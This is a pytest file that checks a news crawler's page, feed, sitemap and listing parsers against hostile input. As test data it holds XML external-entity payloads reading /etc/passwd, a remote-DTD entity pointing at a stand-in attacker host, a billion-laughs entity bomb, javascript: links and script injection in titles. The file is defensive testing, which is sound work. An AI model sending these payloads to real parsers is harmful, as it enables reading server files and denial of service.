"""Hostile input, made here by the tests: every page, feed, sitemap and listing either gives
its result or is rejected with ExtractionError / DiscoveryError. Never another exception,
never a hang, never unbounded memory.

Each case runs in a forked child with a time limit (killed when it runs over) and, on Linux,
an address-space limit (so a case that would balloon gets a MemoryError, reported as a
failure). The parent loads the detectors' models first, so the children start warm.
"""

from __future__ import annotations

import gzip
import multiprocessing
import random
import resource
import sys
import traceback
from collections.abc import Callable, Iterable
from dataclasses import dataclass
from datetime import UTC, datetime
from multiprocessing.connection import Connection
from pathlib import Path
from typing import Any

import lxml.html
import pytest
from scrapy import Request
from scrapy.http import XmlResponse
from scrapy.utils.test import get_crawler

from crawler.config import load_config
from crawler.digest import build_site
from pipelines import ExtractionError, process_fetched, process_page
from spiders.base import VIA
from spiders.discovery import (
    DiscoveryError,
    compile_patterns,
    feed_links,
    listing_links,
    sitemap_links,
)
from spiders.unesco import UNESCOSpider
from tests.test_digest import make_item

URL = "https://news.un.org/en/story/2025/01/1"
FEED_URL = "https://news.un.org/feed/subscribe/en/news/all/rss.xml"
TIMEOUT = 120.0  # seconds a case may take; the slowest take a few
MEMORY = 1 << 30  # bytes a case may map beyond what the warm process already has
FORBIDDEN_FILE = "root:x:0:0"  # the first line of /etc/passwd: an external entity was read

PARAGRAPH = (
    "Global citizenship education helps young people understand the world and act for "
    "peace, human rights and sustainable development in their own communities."
)


def article(title: str = "A story", body: str = f"<p>{PARAGRAPH}</p>", head: str = "") -> str:
    return (
        f"<!DOCTYPE html><html lang='en'><head><title>{title}</title>{head}</head>"
        f"<body><article><h1>{title}</h1>{body}</article></body></html>"
    )


# ---- running a case: a forked child with a time and a memory limit -------------------------


@dataclass(frozen=True)
class Outcome:
    kind: str  # "result", "rejected" (the allowed error), or "crash"
    detail: str  # the error's message, or the result's repr (cut)
    size: int = 0  # the result's repr length: an entity expanded would make it huge
    found: tuple[str, ...] = ()  # forbidden strings the result holds


def _child(
    call: Callable[[], Any],
    allowed: type[Exception],
    forbidden: tuple[str, ...],
    send: Connection,
) -> None:
    if sys.platform == "linux":
        with open("/proc/self/statm") as statm:
            mapped = int(statm.read().split()[0]) * resource.getpagesize()
        resource.setrlimit(resource.RLIMIT_AS, (mapped + MEMORY, resource.RLIM_INFINITY))
    try:
        result = call()
    except allowed as exc:
        send.send(Outcome("rejected", str(exc)[:500]))
    except BaseException:  # noqa: BLE001 - every other exception is the failure reported
        send.send(Outcome("crash", traceback.format_exc()[-3000:]))
    else:
        shown = repr(result)
        found = tuple(s for s in forbidden if s in shown)
        send.send(Outcome("result", shown[:500], len(shown), found))
    send.close()


def run_bounded(
    call: Callable[[], Any],
    allowed: type[Exception],
    forbidden: tuple[str, ...] = (),
    seconds: float = TIMEOUT,
) -> Outcome:
    """``call()`` in a forked child: its outcome, or a test failure for a crash or a hang."""
    context = multiprocessing.get_context("fork")
    receive, send = context.Pipe(duplex=False)
    child = context.Process(target=_child, args=(call, allowed, forbidden, send), daemon=True)
    child.start()
    send.close()
    try:
        if not receive.poll(seconds):
            pytest.fail(f"still running after {seconds:.0f} s")
        try:
            outcome: Outcome = receive.recv()
        except EOFError:
            child.join(5)
            pytest.fail(f"the child died without an answer (exit code {child.exitcode})")
    finally:
        child.kill()
        child.join()
        receive.close()
    if outcome.kind == "crash":
        pytest.fail(f"neither a result nor {allowed.__name__}:\n{outcome.detail}")
    return outcome


def cases(names: Iterable[str], slow: Iterable[str] = ()) -> list[Any]:
    """Parameters named after the cases, the slow ones marked so."""
    return [
        pytest.param(name, id=name, marks=[pytest.mark.slow] if name in slow else [])
        for name in names
    ]


@pytest.fixture(scope="module", autouse=True)
def warm_models() -> None:
    """Load the language and topic models once, before the children fork."""
    process_page(article(), URL, now=lambda: datetime(2025, 3, 1, tzinfo=UTC))


# ---- hostile pages -------------------------------------------------------------------------


@dataclass(frozen=True)
class Page:
    make: Callable[[], bytes | str]
    content_type: str | None = "text/html"
    forbidden: tuple[str, ...] = ()  # what no record may hold


def _rng(seed: int) -> random.Random:
    return random.Random(seed)


LAUGHS_DTD = (
    '<!DOCTYPE lolz [<!ENTITY lol0 "lol">'
    + "".join(f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10}">' for i in range(1, 10))
    + "]>"
)
XXE_DTD = '<!DOCTYPE doc [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
PARAMETER_XXE_DTD = (
    '<!DOCTYPE doc [<!ENTITY % ext SYSTEM "file:///etc/passwd"> %ext;'
    '<!ENTITY remote SYSTEM "http://attacker.invalid/x.dtd">]>'
)
ODD_HREFS = (
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", " javascript:alert(1)", "data:text/html,<b>x",
    "vbscript:x", "mailto:a@b.c", "tel:+1", "file:///etc/passwd", "/en/story/2025/01/2",
    "story/3", "../../story/4", "//evil.example/en/story/5", "  https://news.un.org/en/story/6  ",
    "https://news.un.org/en/story/7\n", "https://xn--80ak6aa92e.com/en/story/8",
    "https://пример.рф/en/story/9", "https://news.un.org/en/story/" + "a" * 100_000,
    "http://[::1", "http://news.un.org:99999/en/story/10", "http://user:pass@news.un.org/x",
    "", "#", "?page=2", "https://news.un.org/en/story/11#frag", "\x00https://x.org/story/12",
    "https://news.un.org/en/story/%zz", "https:///en/story/13", "http://\u202eevil.com/story",
)  # fmt: skip


def _odd_links_page() -> str:
    links = "".join(f'<a href="{h}">link</a>' for h in ODD_HREFS)
    return article(
        body=f"<p>{PARAGRAPH}</p>{links}",
        head="".join(
            f'<link rel="alternate" hreflang="fr" href="{h}"><link rel="canonical" href="{h}">'
            f'<meta property="og:image" content="{h}">'
            for h in ODD_HREFS[:20]
        ),
    )


def _many_paragraphs(size: int) -> str:
    rng = _rng(size)
    words = PARAGRAPH.split()
    paragraphs = []
    total = 0
    while total < size:
        paragraph = "<p>" + " ".join(rng.choice(words) for _ in range(40)) + ".</p>\n"
        paragraphs.append(paragraph)
        total += len(paragraph)
    return article(body="".join(paragraphs))


def _overlong_utf8() -> bytes:
    body = article().encode()
    # "<script>" spelled with overlong two-byte forms, a lone surrogate (ED A0 80), 5- and
    # 6-byte forms, a stray continuation byte and a truncated sequence.
    hostile = b"\xc0\xbcscript\xc0\xbealert(1)\xed\xa0\x80\xf8\x88\x80\x80\x80\xfc\x84\x80\x80"
    return body.replace(b"</p>", hostile + b"\x80\xe2\x82</p>")


PAGES: dict[str, Page] = {
    "unclosed-tags": Page(lambda: f"<html><head><title>Open<body><article><h1>Open<p>{PARAGRAPH}"
                          f"<p><b>bold <i>italic <a href='/x'>link <table><tr><td>cell"),
    "stray-and-mismatched-tags": Page(lambda: "</div></p><<<>>>" + article().replace(
        "</h1>", "</h2></article></div>") + "</body></html></html><p>after"),
    "nested-divs-100k": Page(lambda: article(body="<div>" * 100_000 + f"<p>{PARAGRAPH}</p>"
                                              + "</div>" * 100_000)),
    "nested-inline-100k-unclosed": Page(lambda: article(body=f"<p>{PARAGRAPH}"
                                                         + "<b><i>" * 50_000)),
    "huge-attribute-5mb": Page(lambda: article(body=f'<p class="{"x" * 5_000_000}">'
                                                f"{PARAGRAPH}</p>")),
    "100k-attributes": Page(lambda: article(body="<p " + " ".join(
        f"a{i}='{i}'" for i in range(100_000)) + f">{PARAGRAPH}</p>")),
    "page-20mb": Page(lambda: _many_paragraphs(20_000_000).encode()),
    "page-3mb-of-paragraphs": Page(lambda: _many_paragraphs(3_000_000).encode()),
    "only-scripts-and-styles": Page(lambda: "<html><head><script>var a = '" + "x" * 10_000
                                    + "';</script><style>p { color: red }</style></head><body>"
                                    "<script>document.write('<p>hi</p>')</script></body></html>"),
    "title-only": Page(lambda: "<html><head><title>Only a title</title></head></html>"),
    "empty-body": Page(lambda: b""),
    "whitespace-body": Page(lambda: b" \n\t " * 1000),
    "plain-text-not-html": Page(lambda: PARAGRAPH.encode(), content_type="text/plain"),
    "image-served-as-html": Page(lambda: b"\x89PNG\r\n\x1a\n" + _rng(1).randbytes(50_000)),
    "random-bytes-200kb": Page(lambda: _rng(2).randbytes(200 * 1024)),
    "random-bytes-labelled-utf-8": Page(lambda: _rng(3).randbytes(200 * 1024),
                                        content_type="text/html; charset=utf-8"),
    "random-bytes-labelled-koi8-r": Page(lambda: _rng(4).randbytes(200 * 1024),
                                         content_type="text/html; charset=koi8-r"),
    "nul-bytes-between-words": Page(lambda: article().encode().replace(b" ", b"\x00")),
    "a-few-nul-bytes": Page(lambda: article().encode().replace(b"</h1>", b"\x00</h1>"),
                            forbidden=("\\x00",)),
    "overlong-and-surrogate-utf-8": Page(_overlong_utf8, content_type="text/html; charset=utf-8",
                                         forbidden=("<script", "\\ud800")),
    "lone-surrogates-in-str": Page(lambda: article(title="Bad \ud800 title", body=(
        f"<p>{PARAGRAPH} \udfff</p>")), forbidden=("\\ud800", "\\udfff")),
    "rtl-override-title-and-text": Page(lambda: article(
        title="\u202eevil title\u202c", body=f"<p>\u202e{PARAGRAPH}\u2066x\u2069</p>"),
        forbidden=("\\u202e", "\\u2066", "\\u2069")),
    "zero-width-everything": Page(lambda: article(
        title="\u200b\u200c\u200d\ufeff", body="<p>" + "\u200b" * 10_000 + "</p>")),
    "zero-width-between-letters": Page(lambda: article(body="<p>" + "\u200b".join(PARAGRAPH)
                                                       + "</p>")),
    "script-injection-in-title": Page(lambda: article(
        title="Story</title><script>alert(1)</script><title>"), forbidden=("<script",)),
    "escaped-script-in-title": Page(lambda: article(
        title="Story &lt;/title&gt;&lt;script&gt;alert(1)&lt;/script&gt;")),
    "xxe-in-page": Page(lambda: XXE_DTD + article(body=f"<p>{PARAGRAPH} &xxe;</p>"),
                        forbidden=(FORBIDDEN_FILE,)),
    "billion-laughs-in-page": Page(lambda: LAUGHS_DTD + article(body=f"<p>{PARAGRAPH} &lol9;</p>"),
                                   content_type="application/xhtml+xml"),
    "json-ld-nested-100k": Page(lambda: article(head='<script type="application/ld+json">'
                                                + "[" * 100_000 + "]" * 100_000 + "</script>")),
    "json-ld-wrong-types": Page(lambda: article(head='<script type="application/ld+json">'
        '{"@type": "NewsArticle", "headline": {"a": 1}, "author": [5, {"name": ["x"]}, null],'
        '"datePublished": [1, 2], "dateModified": 1e400, "@graph": [1, "x", {"@graph": {}}]}'
        "</script>")),
    "absurd-dates": Page(lambda: article(head="".join(
        f'<meta property="article:published_time" content="{d}">'
        f'<meta property="article:modified_time" content="{d}">'
        for d in ("99999-99-99T99:99:99", "0000-00-00", "9999-12-31T23:59:59-23:59",
                  "0001-01-01T00:00:00+23:59", "-1-01-01", "1e10", "2025-02-30", "\u0663\u0660")),
        body=f"<p>{PARAGRAPH}</p><time datetime='99999'>then</time>")),
    "odd-links-everywhere": Page(_odd_links_page, forbidden=("javascript:",)),
    "huge-lang-and-hreflang": Page(lambda: article().replace("lang='en'", f"lang='{'x' * 100_000}'")
                                   .replace("<head>", f"<head><link rel='alternate' hreflang="
                                            f"'{'y' * 100_000}' href='/y'>")),
    "meta-charset-lies": Page(lambda: article(title="Plan d'éducation", head=(
        '<meta charset="utf-16"><meta http-equiv="Content-Type" content="charset=x-user-defined">'
    )).encode("cp1252"), content_type="text/html; charset=utf-7"),
    "utf-16-without-bom-labelled-utf-8": Page(lambda: article().encode("utf-16-le"),
                                              content_type="text/html; charset=utf-8"),
    "gzip-bytes-served-as-html": Page(lambda: gzip.compress(article().encode())),
}  # fmt: skip


# Every mislabel: each language's bytes in its legacy encoding, served under each label.
MISLABEL_TEXTS = {
    "fr-windows-1252": (article("Plan d'éducation", "<p>Le plan d'éducation à la citoyenneté "
                                "mondiale a été présenté à Paris, où élèves et enseignants "
                                "ont débattu.</p>"), "cp1252"),
    "ru-windows-1251": (article("Дети учатся безопасности", "<p>Дети Кыргызстана учатся "
                                "безопасности в интернете. Программа ЮНИСЕФ помогает школам."
                                "</p>"), "cp1251"),
    "ru-koi8-r": (article("Дети учатся безопасности", "<p>Дети Кыргызстана учатся безопасности "
                          "в интернете. Программа ЮНИСЕФ помогает школам.</p>"), "koi8-r"),
    "ar-windows-1256": (article("التعليم من أجل المواطنة", "<p>قالت منظمة اليونسكو إن التعليم "
                                "من أجل المواطنة العالمية يساعد الشباب على فهم العالم.</p>"),
                        "cp1256"),
    "zh-gb18030": (article("全球公民教育", "<p>联合国教科文组织表示，全球公民教育帮助年轻人了解"
                           "世界，促进和平与可持续发展。</p>"), "gb18030"),
    "ja-shift-jis": (article("地球市民教育", "<p>ユネスコによると、地球市民教育は若者が世界を"
                             "理解し、平和に役立ちます。</p>"), "shift_jis"),
}  # fmt: skip
MISLABELS = ("utf-8", "iso-8859-1", "windows-1251", "shift_jis", "utf-16", "x-user-defined",
             "iso-2022-kr", "bogus")  # fmt: skip
for _name, (_html, _encoding) in MISLABEL_TEXTS.items():
    for _label in MISLABELS:
        PAGES[f"{_name}-labelled-{_label}"] = Page(
            lambda html=_html, encoding=_encoding: html.encode(encoding),
            content_type=f"text/html; charset={_label}",
        )


def _page_calls(page: Page, entry: str) -> Callable[[], Any]:
    fixed = datetime(2025, 3, 1, tzinfo=UTC)

    def call() -> Any:
        body = page.make()
        if entry == "process_fetched":
            return process_fetched(
                body, URL, None, content_type=page.content_type, now=lambda: fixed
            )
        return process_page(body, URL, now=lambda: fixed)

    return call


@pytest.mark.parametrize("entry", ["process_fetched", "process_page"])
@pytest.mark.parametrize(
    "name", cases(PAGES, slow=("huge-attribute-5mb", "page-3mb-of-paragraphs", "100k-attributes"))
)
def test_a_hostile_page_gives_a_record_or_is_rejected(name: str, entry: str) -> None:
    page = PAGES[name]
    outcome = run_bounded(_page_calls(page, entry), ExtractionError, page.forbidden)
    assert outcome.found == (), f"the record holds {outcome.found}: {outcome.detail}"


@pytest.mark.parametrize(
    ("name", "reason"),
    [
        ("page-20mb", "page too large"),
        ("random-bytes-200kb", "not a text page"),
        ("random-bytes-labelled-utf-8", "not a text page"),
        ("random-bytes-labelled-koi8-r", "not a text page"),
        ("nul-bytes-between-words", "not a text page"),
        ("image-served-as-html", "not a text page"),
        ("plain-text-not-html", "not HTML"),
    ],
)
def test_what_is_not_an_article_page_is_rejected_for_that_reason(name: str, reason: str) -> None:
    outcome = run_bounded(_page_calls(PAGES[name], "process_fetched"), ExtractionError)
    assert outcome.kind == "rejected"
    assert reason in outcome.detail


@pytest.mark.parametrize("name", list(MISLABEL_TEXTS))
def test_a_legacy_page_labelled_utf_8_keeps_its_title(name: str) -> None:
    html, encoding = MISLABEL_TEXTS[name]
    body = html.encode(encoding)
    record = process_fetched(body, URL, None, content_type="text/html; charset=utf-8")
    title = lxml.html.fromstring(html).findtext(".//h1")
    assert record["title"] == title


# ---- hostile feeds, sitemaps and listing pages ---------------------------------------------


def rss(items: str, dtd: str = "", channel: str = "") -> bytes:
    return (
        f'<?xml version="1.0" encoding="utf-8"?>{dtd}<rss version="2.0"><channel><title>News'
        f"</title><link>https://news.un.org/</link>{channel}{items}</channel></rss>"
    ).encode()


def rss_item(link: str, title: str = "A story", extra: str = "") -> str:
    return f"<item><title>{title}</title><link>{link}</link>{extra}</item>"


def sitemap(entries: str, dtd: str = "", root: str = "urlset") -> bytes:
    return (
        f'<?xml version="1.0" encoding="UTF-8"?>{dtd}<{root} '
        f'xmlns="http://www.sitemaps.org/schemas/sitemap/0.9" '
        f'xmlns:xhtml="http://www.w3.org/1999/xhtml">{entries}</{root}>'
    ).encode()


def _xml_escape(text: str) -> str:
    return text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")


FEEDS: dict[str, Callable[[], bytes]] = {
    "billion-laughs": lambda: rss(rss_item(URL, "&lol9;"), LAUGHS_DTD),
    "external-entity-etc-passwd": lambda: rss(rss_item(URL, "&xxe;"), XXE_DTD),
    "parameter-entity-and-remote-dtd": lambda: rss(rss_item(URL, "&remote;"), PARAMETER_XXE_DTD),
    "5000-entries": lambda: rss("".join(rss_item(f"{URL}{i}", f"Story {i}") for i in range(5000))),
    "atom-20000-entries": lambda: (
        '<?xml version="1.0"?><feed xmlns="http://www.w3.org/2005/Atom"><title>t</title>'
        + "".join(f'<entry><title>S{i}</title><link href="{URL}{i}"/><id>{i}</id>'
                  f"<updated>2025-01-01T00:00:00Z</updated></entry>" for i in range(20_000))
        + "</feed>").encode(),
    "odd-links": lambda: rss("".join(rss_item(_xml_escape(h)) for h in ODD_HREFS)),
    "odd-enclosures": lambda: rss(rss_item(URL, extra="".join(
        f'<enclosure url="{_xml_escape(h)}" type="image/jpeg"/>' for h in ODD_HREFS[:10]))),
    "entry-without-link": lambda: rss("<item><title>No link</title></item>" + rss_item(URL)),
    "random-bytes": lambda: _rng(5).randbytes(100_000),
    "empty": lambda: b"",
    "html-page-instead": lambda: article().encode(),
    "truncated": lambda: rss("".join(rss_item(f"{URL}{i}") for i in range(100)))[:3000],
    "nested-100k-in-title": lambda: rss(rss_item(URL, "<b>" * 100_000)),
    "title-5mb": lambda: rss(rss_item(URL, "x" * 5_000_000)),
    "nul-bytes": lambda: rss(rss_item(URL)).replace(b"<item>", b"<item>\x00\x00"),
    "utf-16-labelled-utf-8": lambda: rss(rss_item(URL, "Дети")).decode().encode("utf-16-le"),
    "absurd-dates": lambda: rss("".join(rss_item(f"{URL}{i}", extra=f"<pubDate>{d}</pubDate>")
                                        for i, d in enumerate(("Mon, 99 Foo 99999 99:99:99 +9999",
                                                               "0000-00-00", "-1", "1e400", "")))),
    "rtl-override-in-entry": lambda: rss(rss_item(URL, "\u202eevil\u202c")),
}  # fmt: skip


@pytest.mark.parametrize(
    "name",
    cases(
        FEEDS,
        slow=("atom-20000-entries", "nested-100k-in-title"),
    ),
)
def test_a_hostile_feed_gives_links_or_is_rejected(name: str) -> None:
    make = FEEDS[name]
    outcome = run_bounded(
        lambda: feed_links(make(), FEED_URL, None), DiscoveryError, (FORBIDDEN_FILE, "lollollol")
    )
    assert outcome.found == (), f"an entity was expanded or read: {outcome.detail}"


SITEMAPS: dict[str, Callable[[], bytes]] = {
    "billion-laughs": lambda: sitemap(f"<url><loc>{URL}/&lol9;</loc></url>", LAUGHS_DTD),
    "external-entity-etc-passwd": lambda: sitemap(f"<url><loc>{URL}/&xxe;</loc></url>", XXE_DTD),
    "parameter-entity-and-remote-dtd": lambda: sitemap(
        f"<url><loc>{URL}/&remote;</loc></url>", PARAMETER_XXE_DTD),
    "index-listing-itself": lambda: sitemap(
        "<sitemap><loc>https://www.unesco.org/sitemap.xml</loc></sitemap>" * 3,
        root="sitemapindex"),
    "50000-urls": lambda: sitemap("".join(
        f"<url><loc>{URL}{i}</loc><lastmod>2025-01-01</lastmod></url>" for i in range(50_000))),
    "odd-locs-and-alternates": lambda: sitemap("".join(
        f'<url><loc>{_xml_escape(h)}</loc><xhtml:link rel="alternate" hreflang="fr" '
        f'href="{_xml_escape(h)}"/></url>' for h in ODD_HREFS)),
    "random-bytes": lambda: _rng(6).randbytes(100_000),
    "empty": lambda: b"",
    "gzip-compressed": lambda: gzip.compress(sitemap(f"<url><loc>{URL}</loc></url>")),
    "rss-instead": lambda: rss(rss_item(URL)),
    "nested-100k": lambda: sitemap("<url>" + "<a>" * 100_000 + f"<loc>{URL}</loc></url>"),
    "nul-bytes": lambda: sitemap(f"<url><loc>{URL}\x00</loc></url>"),
    "absurd-lastmod": lambda: sitemap(f"<url><loc>{URL}</loc><lastmod>99999-99-99</lastmod>"
                                      f"</url>"),
}  # fmt: skip


@pytest.mark.parametrize("name", cases(SITEMAPS))
def test_a_hostile_sitemap_gives_links_or_is_rejected(name: str) -> None:
    make = SITEMAPS[name]
    outcome = run_bounded(
        lambda: sitemap_links(make()), DiscoveryError, (FORBIDDEN_FILE, "lollollol")
    )
    assert outcome.found == (), f"an entity was expanded or read: {outcome.detail}"


LISTINGS: dict[str, Callable[[], bytes]] = {
    "odd-links": lambda: _odd_links_page().encode()
    + b"".join(f'<a rel="next" href="{h}">next</a>'.encode() for h in ODD_HREFS),
    "10000-links": lambda: _links_page(10_000),
    "nested-100k": lambda: (article(body="<div>" * 100_000 + '<a href="/en/story/1">x</a>')
                            .encode()),
    "huge-href": lambda: article(body=f'<a href="/en/story/{"x" * 5_000_000}">x</a>').encode(),
    "random-bytes": lambda: _rng(7).randbytes(100_000),
    "empty": lambda: b"",
    "nul-bytes": lambda: b"\x00" * 1000 + article().encode(),
    "xxe": lambda: (XXE_DTD + article(body='<a href="/en/story/&xxe;">x</a>')).encode(),
    "next-is-javascript": lambda: article(body='<a rel="next" href="javascript:next()">n</a>')
    .encode(),
}  # fmt: skip


def _links_page(count: int) -> bytes:
    return article(body="".join(f'<a href="/en/story/{i}">{i}</a>' for i in range(count))).encode()


@pytest.mark.parametrize("base", ["https://news.un.org/en/news", "https://пример.рф/новости/"])
@pytest.mark.parametrize("name", cases(LISTINGS))
def test_a_hostile_listing_gives_links_or_is_rejected(name: str, base: str) -> None:
    make = LISTINGS[name]
    patterns = compile_patterns([r"/story/"])
    outcome = run_bounded(
        lambda: listing_links(make(), base, patterns, "a[rel=next]"),
        DiscoveryError,
        (FORBIDDEN_FILE,),
    )
    assert outcome.found == ()


@pytest.mark.slow
def test_a_listing_of_100000_links_is_read_in_seconds() -> None:
    patterns = compile_patterns([r"/story/"])
    outcome = run_bounded(
        lambda: listing_links(_links_page(100_000), URL, patterns, "a[rel=next]"),
        DiscoveryError,
        seconds=10,
    )
    assert outcome.kind == "result"


def test_a_sitemap_index_listing_itself_is_not_fetched_again() -> None:
    config = load_config(None)
    crawler = get_crawler(UNESCOSpider, {"GCED_SOURCES": dict(config.sources)})
    spider = UNESCOSpider.from_crawler(crawler, source_name="unesco")
    crawler.spider = spider
    index = "https://www.unesco.org/sitemap.xml"
    response = XmlResponse(
        index, body=SITEMAPS["index-listing-itself"](), request=Request(index, meta={VIA: ()})
    )
    followed = [r.url for r in spider.parse_sitemap(response, None) if isinstance(r, Request)]
    assert index not in followed


# ---- a stored title's controls on the built site -------------------------------------------


@pytest.mark.parametrize(
    "title",
    [
        "\u202eevil title",  # RIGHT-TO-LEFT OVERRIDE, never closed
        "x\u2069\u202eevil",  # a PDI to close the page's isolate early, then an override
        "\u202bembedded\u202a\u2067isolated",  # embeddings and an isolate left open
        "التعليم من أجل المواطنة العالمية",  # a right-to-left title in the English tree
    ],
    ids=["override", "early-pdi", "embeddings-and-isolates", "arabic"],
)
def test_a_title_cannot_reorder_the_site_name_in_the_page_title(tmp_path: Path, title: str) -> None:
    item = make_item("bidi", title=title)
    build_site([item], tmp_path, now=datetime(2025, 3, 12, tzinfo=UTC), search=False)
    page = lxml.html.fromstring((tmp_path / "en" / "items" / "bidi.html").read_bytes())
    shown = page.findtext(".//title")
    stripped = "".join(
        c for c in title if c not in "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"
    )
    assert shown == f"\u2068{stripped}\u2069 · GCED News Digest"


def test_a_page_title_with_an_override_is_stored_without_it() -> None:
    record = process_page(article(title="\u202eevil title\u202c"), URL)
    assert record["title"] == "evil title"
